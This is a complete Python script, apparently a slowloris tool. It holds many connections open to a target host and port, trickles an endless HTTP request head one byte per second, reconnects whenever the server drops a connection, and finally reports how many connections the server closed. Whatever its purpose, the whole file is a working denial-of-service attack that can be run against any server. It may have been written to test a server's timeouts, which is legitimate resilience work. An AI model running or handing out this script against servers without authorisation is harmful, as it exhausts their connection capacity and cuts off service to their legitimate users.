#!/usr/bin/env python3
"""Keeps COUNT connections open to HOST:PORT, each sending a request head one
byte a second (so it never ends), and opens a new one for each that the
server closes, for SECONDS; then says how many were closed on it.

    slowloris.py HOST PORT COUNT SECONDS
"""
import socket
import sys
import time

HEAD = b"GET /service/catalogue?p=1&x00=x6666 HTTP/1.1\r\nHost: slow\r\n" + b"X-Slow: y\r\n" * 4000


def open_one(host, port):
    sock = socket.create_connection((host, port), timeout=5)
    sock.setblocking(False)
    return [sock, 0]


def still_open(conn):
    try:
        return conn[0].recv(4096) == b"" and False
    except BlockingIOError:
        return True
    except OSError:
        return False


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    end = time.monotonic() + seconds
    conns = [open_one(host, port) for _ in range(count)]
    print("slowloris: %d connections open" % count, flush=True)
    closed = 0
    while time.monotonic() < end:
        for i, conn in enumerate(conns):
            try:
                if not still_open(conn):
                    raise OSError("closed")
                conn[0].send(HEAD[conn[1]:conn[1] + 1])
                conn[1] += 1
            except OSError:
                conn[0].close()
                closed += 1
                conns[i] = open_one(host, port)
        time.sleep(1)
    for conn in conns:
        conn[0].close()
    print("slowloris: %d connections closed by the server in %.0f s" % (closed, seconds), flush=True)


if __name__ == "__main__":
    main()
